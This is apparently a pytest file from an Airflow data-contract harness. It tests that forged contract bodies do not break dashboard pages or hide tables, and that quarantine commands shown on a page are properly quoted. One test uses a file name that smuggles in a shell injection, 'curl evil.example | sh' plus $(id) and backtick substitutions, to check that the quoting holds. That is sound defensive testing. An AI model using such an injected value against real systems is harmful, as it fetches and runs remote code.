"""Any task may tell of any table: what it tells breaks no page, takes no table out of anybody's sight, and makes no command."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from pydantic import TypeAdapter
from sqlalchemy import Engine, insert

from airflow_provider_harness.adapters.store import schema as t
from airflow_provider_harness.adapters.store.incidents import open_engine
from airflow_provider_harness.adapters.store.migrate import upgrade
from airflow_provider_harness.adapters.store.pages.tables import SqlTables
from airflow_provider_harness.adapters.store.unreadable import unreadable
from airflow_provider_harness.app.pages import kept_contract, table_view
from airflow_provider_harness.core.contracts.anomaly import Point
from airflow_provider_harness.core.contracts.checks import CheckKind, Slot
from tests.ports.test_store import NOW

pytestmark = pytest.mark.attack
TABLE = "public.t"
BASELINE = {"minimum": 2, "window": 10, "sensitivity": 3.0, "floor": 0.1, "of": CheckKind.ROW_COUNT.value}
CHECK = {"id": "rows", "kind": "row_count", "columns": ["a"], "severity": "error", "words": "w"}
COLUMN = {"name": "a", "type": "text", "logical": "string", "required": True, "key": False}
SOUND: dict[str, Any] = {
    **dict.fromkeys(("id", "version", "name", "status", "description", "granularity", "criticality", "readiness"), "x"),
    "zone": "UTC",
    "file": "t.odcs.yaml",
    "owner": {"team": "ops", "members": ["ann"], "channels": []},
    "consumers": [{"name": "board", "purpose": "p", "columns": ["a"]}],
    "columns": [COLUMN | {"classification": "", "shown": False, "description": ""}],
    "checks": [CHECK | {"baseline": BASELINE | {"slot": Slot.ALL.value}}],
    "slas": [{"prop": "latency", "value": "4", "unit": "h"}],
    "quarantine": True,
}
ODD = (None, 5, -1, 1e308, float("nan"), True, "", [], {}, [[1]], [{}], {"a": 1}, 10**30, "1e400", "\x00")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    engine = open_engine(f"sqlite:///{tmp_path_factory.mktemp('forged') / 'store.db'}")
    upgrade(engine)
    yield engine
    engine.dispose()


def places(value: Any, *way: Any) -> Iterator[tuple[Any, ...]]:
    """The way to everything in a value."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, one in inside:
        yield (*way, name)
        yield from places(one, *way, name)


def forgeries() -> Iterator[dict[str, Any]]:
    """A contract as gates keep it, with one odd value in one place, as JSON gives it back."""
    for way in places(SOUND):
        for value in ODD:
            body = copy.deepcopy(SOUND)
            at = body
            for name in way[:-1]:
                at = at[name]
            at[way[-1]] = value
            yield json.loads(json.dumps(body))


def test_a_contract_that_is_read_can_be_shown_in_every_part_of_a_page() -> None:
    """Everything that a page does with one works with whatever counts as readable; the sound one does."""
    answer = TypeAdapter(kept_contract.ContractShown)
    points = [Point(at=NOW - timedelta(days=day), value=float(day), flagged=False) for day in range(1, 30)]
    assert kept_contract.is_readable(SOUND)
    readable = [body for body in forgeries() if kept_contract.is_readable(body)]
    assert 20 < len(readable) < 400
    for body in readable:
        answer.dump_json(answer.validate_python(kept_contract.shown(body), strict=True))
        table_view.versions([(NOW, SOUND), (NOW, body), (NOW, SOUND)])
        table_view.freshness(body, NOW, timedelta(days=1), None, NOW)
        table_view.quarantine(TABLE, "c", body, [], [])
        for name, baseline in kept_contract.baselines(body).items():
            kept_contract.band(baseline, name, NOW, body["zone"], points)


def told(engine: Engine, number: int, body: dict[str, Any], dag_id: str, seen: int) -> None:
    names = {"contract": "c", "version": "1", "owner": "o", "criticality": "high", "readiness": ""}
    given = {"key": f"{number:064x}", "table_name": TABLE, "dag_id": dag_id, "task_id": "t"}
    at = t.text_of(NOW + timedelta(seconds=seen))
    with engine.begin() as connection:
        connection.execute(insert(t.contracts).values(**names, **given, seen_at=at, body=json.dumps(body)))


def test_a_forged_contract_takes_no_table_out_of_sight_and_is_named(store: Engine) -> None:
    tables = SqlTables(lambda: store)
    told(store, 1, SOUND, "publishing", 0)
    odd = SOUND | {"slas": [{"prop": "latency", "value": None, "unit": "h"}]}
    told(store, 2, odd, "mine", 1)
    assert len(tables.versions(TABLE)) == 1 and unreadable(store).keys() == {"harness_contracts"}
    mark = {"conn_id": "dw", "table_name": TABLE, "slice": "s", "slice_end": t.text_of(NOW), "contract": "c"}
    with store.begin() as connection:
        connection.execute(insert(t.borne_out).values(**mark, dag_id="publishing", task_id="load"))
        for number, (conn_id, dag_id) in enumerate((("dw", "publishing"), ("other", "mine"))):
            moved = {"moved_at": t.text_of(NOW + timedelta(seconds=number)), "dag_id": dag_id, "task_id": "load"}
            connection.execute(insert(t.watermarks).values(**{**mark, "conn_id": conn_id}, **moved))
    [known] = tables.known()
    assert (known.dag_id, known.conn_id) == ("publishing", "dw"), "Airflow's word, and not the newest"
    assert [row.table for row in tables.rows([known], NOW)] == [TABLE]


def test_a_command_on_a_page_is_one_command() -> None:
    body = SOUND | {"file": "t.yaml; curl evil.example | sh #$(id)`id`\nx"}
    shown = table_view.quarantine(TABLE, "a b", body, [], [])
    assert shown.list == (
        "airflow harness quarantine show 't.yaml; curl evil.example | sh #$(id)`id`\nx' --conn-id 'a b' --slice SLICE"
    )
    plain = table_view.quarantine(TABLE, "warehouse", SOUND, [], [])
    assert plain.release == "airflow harness quarantine release t.odcs.yaml --conn-id warehouse --slice SLICE"
